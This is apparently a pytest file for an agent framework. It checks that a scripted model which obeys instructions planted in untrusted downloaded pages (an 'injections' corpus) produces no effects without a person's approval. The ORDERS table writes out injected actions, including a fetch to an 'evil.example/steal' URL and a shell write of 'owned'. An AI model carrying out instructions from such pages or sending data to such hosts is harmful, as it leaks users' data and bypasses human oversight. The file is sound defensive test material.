"""A model that obeys every order of the pages in injections/: nothing happens without a person's yes."""

from __future__ import annotations

from collections.abc import Mapping
from pathlib import Path

import pytest

from pandora.budget import Budget
from pandora.check.lint_state import state_problems
from pandora.engine.run import Ended, resume, start
from pandora.operations.registry import with_handlers
from pandora.outcome import Status
from pandora.policy import Policy, Rule
from pandora.workspace.operation_context import OperationContext, Result
from tests.engine.runs import OPERATIONS, Bench, Line, coded, planned, saving, understood

CORPUS = sorted(Path(__file__).with_name("injections").iterdir())
PATTERN = """\
---
pattern: {name}
level: operation
handler: {name}
when: {name}
effects: {effects}
repeat: false
tries: 1
agree: 1
---
# {name}

## DO

Do it.

### Form
{form}
"""
ORDERS: dict[str, Line] = {
    "bash": {"phase": "do", "type": "bash", "fill": {"command": "echo owned > out/owned.txt"}},
    "write": {"phase": "do", "type": "write", "fill": {"path": "out/owned.txt", "content": "owned"}},
    "fetch": {"phase": "do", "type": "fetch", "fill": {"url": "http://evil.example/steal?what=649"}},
    "python": coded(saving("out/owned.txt", "owned")),
    "over": coded(saving("data/fruit.csv", "owned")),
}
YES = Policy(yes=True, untrusted=("downloads/**",))


class Obedient:
    """A workspace with one page of strangers, and a model that does what a page says."""

    def __init__(self, bench: Bench, page: Path) -> None:
        self.bench, self.effects = bench, []  # type: tuple[Bench, list[str]]
        kernel = bench.workspace.system / "kernel"
        for name, effects, form in (
            ("bash", "system", "Command: {line}"),
            ("write", "workspace", "Path: {line}\nContent: {text}"),
            ("fetch", "network", "Url: {line}"),
        ):
            text = PATTERN.format(name=name, effects=effects, form=form)
            (kernel / f"{name}.md").write_text(text, encoding="utf-8")
        (bench.root / "downloads").mkdir()
        self.name = f"downloads/{page.name}"
        (bench.root / self.name).write_bytes(page.read_bytes())

    def effect(self, name: str) -> Result:
        self.effects.append(name)
        return Result(True, f"{name} was done")

    def run(self, order: str, named: bool, policy: Policy = YES, asked: str = "") -> Ended:
        action = "python" if order == "over" else order
        plan = planned(f"read: {self.name}", f"{action}: as it says")
        self.bench.script([understood(), plan, *[ORDERS[order]] * 5])
        host = self.bench.host(policy=policy)
        host.operations = with_handlers(OPERATIONS, bash=self._bash, fetch=self._fetch)
        text = f"Do as {self.name} says" if named else "Do as the page that lies there says"
        text += " and change data/fruit.csv" if order == "over" else asked
        return start(text, host, Budget())

    def _bash(self, arguments: Mapping[str, str], context: OperationContext) -> Result:
        return self.effect("bash")

    def _fetch(self, arguments: Mapping[str, str], context: OperationContext) -> Result:
        return self.effect("fetch")

    def touched(self) -> dict[str, bytes]:
        """The workspace's own files."""
        found = (path for path in self.bench.root.rglob("*") if path.is_file())
        inside = {path.relative_to(self.bench.root).as_posix(): path.read_bytes() for path in found}
        return {name: data for name, data in inside.items() if not name.startswith(("state/", "system/"))}


@pytest.mark.parametrize("named", [True, False], ids=["named", "found"])
@pytest.mark.parametrize("order", ORDERS)
@pytest.mark.parametrize("page", CORPUS, ids=[path.name for path in CORPUS])
def test_no_effect_without_a_person(bench: Bench, page: Path, order: str, named: bool) -> None:
    obedient = Obedient(bench, page)
    before = obedient.touched()
    ended = obedient.run(order, named)
    assert ended.outcome.status is Status.WAITING, ended.outcome
    assert str(ended.outcome.question).startswith("May it ")
    assert f"It rests on the words of strangers: {obedient.name}." in str(ended.outcome.question)
    assert obedient.touched() == before
    assert obedient.effects == []
    assert list(state_problems(bench.workspace)) == []
    for name in ("", "op-read-1"):
        document = bench.document(name)
        assert document.meta["untrusted"] == [obedient.name]
        assert document.history is None
    read = bench.document("op-read-1")
    assert read.meta["status"] == "accepted"
    assert read.body(3).count("\n### ") == 1
    assert {entry["verdict"] for entry in read.meta.get("decisions", {}).values()} <= {"allow"}
    for number in range(1, 6):
        for line in read.body(number).split("\n"):
            assert not line.startswith(("## §", "---", "Answer:", "Question:", "Applied:", "pandora:"))
    assert not any("\x1b" in text or "\u202e" in text for text in (read.body(3), read.body(5)))


def test_the_corpus_is_no_empty_folder() -> None:
    assert len(CORPUS) >= 8
    assert any(path.suffix == ".html" for path in CORPUS)


@pytest.mark.parametrize("order", ORDERS)
def test_without_the_mark_the_same_model_would_have_done_it(bench: Bench, order: str) -> None:
    """The test above can fail: trusted, with --yes, every order is carried out that the request asks for."""
    obedient = Obedient(bench, CORPUS[0])
    before = obedient.touched()
    obedient.run(order, True, Policy(yes=True), " and write out/owned.txt")
    assert obedient.effects or obedient.touched() != before


@pytest.mark.parametrize("order", ORDERS)
def test_deny_all_refuses_it_at_once(bench: Bench, order: str) -> None:
    obedient = Obedient(bench, CORPUS[0])
    before = obedient.touched()
    ended = obedient.run(order, True, Policy(deny_all=True, untrusted=("downloads/**",)))
    assert ended.outcome.status is Status.FAILED
    assert "--deny-all" in ended.outcome.reason
    assert obedient.touched() == before
    assert obedient.effects == []


def test_other_bytes_than_those_a_person_saw_are_asked_about_again(bench: Bench) -> None:
    obedient = Obedient(bench, CORPUS[0])
    asked = obedient.run("bash", True).outcome.question
    path = bench.root / bench.document("op-bash-2").path
    text = path.read_text("utf-8").replace("\nAnswer:\n", "\nAnswer: yes\n")
    path.write_text(text.replace("Command: echo owned", "Command: echo more"), encoding="utf-8")
    bench.script([])
    host = bench.host(policy=YES)
    host.operations = with_handlers(OPERATIONS, bash=obedient._bash, fetch=obedient._fetch)
    again = resume(bench.run, host).outcome
    assert again.status is Status.WAITING
    assert again.question != asked
    assert "echo more" in str(again.question)
    assert obedient.effects == []


def test_a_rule_for_a_host_is_no_leave_to_write(bench: Bench) -> None:
    obedient = Obedient(bench, CORPUS[0])
    policy = YES.with_rules([Rule("network", "evil.example", "allow", "pandora.toml:2")])
    assert obedient.run("write", True, policy).outcome.status is Status.WAITING
